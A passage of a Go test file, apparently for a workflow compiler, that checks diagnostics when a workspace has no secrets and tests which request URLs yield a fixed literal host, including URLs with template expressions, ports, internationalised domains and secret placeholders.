	if _, ds := Compile(doc, Options{SecretNames: []string{}}); len(ds) != 6 || !strings.Contains(ds[0].Message, "the workspace has no secrets, so") {
		t.Errorf("with no secrets: %v", ds)
	}
}

func TestLiteralTarget(t *testing.T) {
	t.Parallel()
	for url, want := range map[string]string{
		"https://ERP.example.com/payables":                    "erp.example.com",
		"https://erp.example.com:8443/p/${{kobana.email_id}}": "erp.example.com:8443",
		"http://bücher.example?x=${{kobana.now}}":             "xn--bcher-kva.example",
		"https://erp.example.com${{kobana.email_id}}":         "",
		"${{secrets.SLACK_WEBHOOK_URL}}":                      "",
		"https://${{secrets.U}}@erp.example.com/":             "",
	} {
		plan, ds := Compile([]byte(`{"result": 1, "workflow": [{"type": "request", "url": `+strconv.Quote(url)+`}]}`), Options{})
		if plan == nil {
			t.Fatalf("%s: %v", url, ds)
		}
		tg, ok := plan.Steps[0].LiteralTarget()
		if got := tg.String(); ok != (want != "") || got != want {
			t.Errorf("LiteralTarget(%s) = %q %v, want %q", url, got, ok, want)
		}
	}
}
